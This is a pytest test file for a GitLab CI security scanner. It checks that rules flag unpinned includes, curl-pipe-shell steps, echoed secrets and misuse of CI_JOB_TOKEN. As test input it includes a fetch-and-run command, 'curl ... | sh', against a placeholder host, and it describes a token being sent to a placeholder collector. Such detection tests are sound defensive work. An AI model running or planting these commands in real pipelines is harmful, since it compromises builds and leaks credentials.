"""GitLab CI: parsing with local includes, per-file Skipped, and each audit's exact findings."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from secloop.core.config import Config
from secloop.core.enums import Status
from secloop.core.model import Skipped
from secloop.pipeline.gitlab.engine import GitlabScan, scan_gitlab, scan_gitlab_files
from secloop.pipeline.gitlab.model import GitlabFile, parse_gitlab
from secloop.pipeline.rules import RULES
from secloop.practices.base import Context
from secloop.practices.catalog import practice
from secloop.practices.evaluators.pipeline import EVALUATORS
from secloop.sources.repo import Repo

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "pipeline"
UI = "GL-UNPINNED-INCLUDE"
IM = "GL-UNPINNED-IMAGE"
CP = "GL-CURL-PIPE-SHELL"
SE = "GL-SECRET-ECHO"
JT = "GL-JOB-TOKEN-MISUSE"
MR = "GL-MR-SECRETS"


def scan_tree(name: str) -> GitlabScan:
    root = FIXTURES / name

    def read(path: str) -> str | None:
        file = root / path
        return file.read_text("utf-8") if file.is_file() else None

    return scan_gitlab_files(read)


def hits(scan: GitlabScan, rule_id: str) -> list[tuple[str, int | None, int | None, str]]:
    return [
        (f.primary.path, f.primary.start_line, f.primary.start_column, f.severity.value)
        for f in scan.of(rule_id)
        if f.primary
    ]


POSITIVE = [
    (
        UI,
        [
            (".gitlab-ci.yml", 5, 13, "high"),
            (".gitlab-ci.yml", 6, 14, "medium"),
            (".gitlab-ci.yml", 11, 14, "medium"),
            (".gitlab-ci.yml", 15, 16, "medium"),
        ],
    ),
    (IM, [(".gitlab-ci.yml", 17, 8, "medium"), (".gitlab-ci.yml", 23, 7, "medium")]),
    (CP, [(".gitlab-ci.yml", 26, 7, "medium")]),
    (
        SE,
        [
            (".gitlab-ci.yml", 27, 7, "high"),
            ("ci/jobs.yml", 9, 7, "high"),
            ("ci/jobs.yml", 19, 7, "high"),
            ("ci/jobs.yml", 20, 7, "high"),
        ],
    ),
    (JT, [("ci/jobs.yml", 9, 12, "high"), ("ci/jobs.yml", 10, 28, "high")]),
    (MR, [("ci/jobs.yml", 4, 11, "high"), ("ci/jobs.yml", 15, 11, "medium")]),
]


@pytest.mark.parametrize(("rule_id", "expected"), POSITIVE)
def test_positive_tree(rule_id: str, expected: list[tuple[str, int, int, str]]) -> None:
    assert hits(scan_tree("gitlab"), rule_id) == expected


@pytest.mark.parametrize("rule_id", [UI, IM, CP, SE, JT, MR])
def test_negative_tree(rule_id: str) -> None:
    assert hits(scan_tree("gitlab-clean"), rule_id) == []


def test_every_gitlab_rule_is_tested_and_mapped() -> None:
    ids = {r.id for r in RULES if r.id.startswith("GL-")}
    assert ids == {rule for rule, _ in POSITIVE}
    assert {r.id: r.cicd_sec for r in RULES if r.id in ids} == {
        UI: (3,),
        IM: (3,),
        CP: (3,),
        SE: (6,),
        JT: (6,),
        MR: (4,),
    }


def test_local_includes_are_followed_once_and_bad_ones_skipped() -> None:
    scan = scan_tree("gitlab")
    assert [(f.path, [j.name for j in f.jobs]) for f in scan.files] == [
        (".gitlab-ci.yml", ["test"]),
        ("ci/jobs.yml", ["publish", "review"]),
    ]
    assert scan.skipped == (
        Skipped("ci/broken.yml", "malformed YAML: did not find expected node content", 2, 1),
        Skipped("ci/missing.yml", "included file not found or not readable as text"),
    )


def test_messages() -> None:
    scan = scan_tree("gitlab")
    assert [f.message for f in scan.of(JT)] == [
        "job 'publish' uses CI_JOB_TOKEN and prints or writes it",
        "job 'publish' uses CI_JOB_TOKEN and sends it to https://collector.example.invalid",
    ]
    assert scan.of(MR)[0].message == "job 'publish' runs for merge requests and uses id_tokens AWS_TOKEN"
    assert scan.of(UI)[1].message == (
        "include project group/ci-templates has no `ref:`, so it follows the project's default branch"
    )


@pytest.mark.parametrize(
    ("text", "reason", "line"),
    [
        ("- a\n- b\n", "not a GitLab CI file: the document is a sequence, expected a mapping", 1),
        ("test: [\n", "malformed YAML: did not find expected node content", 2),
        ("test: make\n", "job test is the scalar 'make', not a mapping", 1),
    ],
)
def test_malformed_files_are_skipped(text: str, reason: str, line: int) -> None:
    parsed = parse_gitlab(".gitlab-ci.yml", text)
    skipped = parsed.problems[0] if isinstance(parsed, GitlabFile) else parsed
    assert (skipped.reason, skipped.line) == (reason, line)


def test_default_scripts_are_audited_as_a_pseudo_job() -> None:
    parsed = parse_gitlab(
        ".gitlab-ci.yml", "default:\n  before_script:\n    - curl -s https://x.invalid/i | sh\n"
    )
    assert isinstance(parsed, GitlabFile)
    assert [(j.name, len(j.scripts)) for j in parsed.jobs] == [("(default)", 1)]


def test_repo_scan_is_cached_and_feeds_the_practices(tmp_path: Path) -> None:
    shutil.copytree(FIXTURES / "gitlab", tmp_path, dirs_exist_ok=True)
    repo = Repo(tmp_path)
    scan = scan_gitlab(repo)
    assert scan is not None and scan is scan_gitlab(repo)
    result = EVALUATORS["pipeline.cicd-sec-3"](Context(repo, Config(), practice("pipeline.cicd-sec-3")))
    assert result.status is Status.FAIL
    assert sorted({f.rule_id for f in result.findings}) == [CP, IM, UI]
    four = EVALUATORS["pipeline.cicd-sec-4"](Context(repo, Config(), practice("pipeline.cicd-sec-4")))
    assert [s.path for s in four.skipped] == ["ci/broken.yml", "ci/missing.yml"]
    assert "ci/broken.yml:2: not audited: malformed YAML: did not find expected node content" in four.evidence


def test_no_gitlab_file_means_no_scan(tmp_path: Path) -> None:
    assert scan_gitlab(Repo(tmp_path)) is None
